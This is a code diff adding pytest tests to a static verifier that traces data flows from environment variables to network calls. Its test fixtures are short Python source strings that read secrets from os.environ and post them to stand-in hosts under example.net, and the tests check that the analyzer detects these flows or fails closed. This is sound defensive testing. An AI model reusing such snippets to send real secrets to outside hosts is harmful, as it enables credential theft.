@@ -8,7 +8,7 @@ import pytest
 
 from verifier.capability import Capability
 from verifier.extract import effects
-from verifier.extract.facts import DataFlow, Parsed, Risk
+from verifier.extract.facts import DataFlow, Parsed, Risk, Unverifiable
 from verifier.extract.python import extract_python
 from verifier.extract.shell import Found, ShellAnalysis, ShellFlow
 from verifier.extract.trace import examples
@@ -328,3 +328,23 @@ def test_a_loop_variable_holds_the_items_of_what_it_iterates() -> None:
 ])
 def test_what_a_write_writes(source: str, expected: set[Flow]) -> None:
     assert flows(source) == expected
+
+
+def test_a_file_with_more_flows_than_followed_fails_closed() -> None:
+    # 80 secrets in one dict sent to 80 hosts: 6 400 flows, past MAX_FLOWS
+    source = ("import os, requests\nd = {}\n"
+              + "".join(f"d['k{i}'] = os.environ['K{i}']\n" for i in range(80))
+              + "".join(f"requests.post('https://h{i}.example.net', json=d)\n" for i in range(80)))
+    facts = extract_python(FILE, "x.py", source.encode(), frozenset({"x.py"}))
+    assert isinstance(facts, Unverifiable)
+    assert (facts.mechanism, facts.detail) == (
+        "unparseable", "x.py has more data flows than the analysis follows")
+
+
+def test_one_flow_per_source_and_sink_the_shortest() -> None:
+    source = ("import os, requests\n"
+              "t = os.environ['T']\n"
+              "u = t\n"
+              "v = u if x else t\n"
+              "requests.post('https://x.example.net', data=v)\n")
+    assert flows(source) == {("env.read(T)", 2, "net.connect(x.example.net)", 5, (2, 4))}
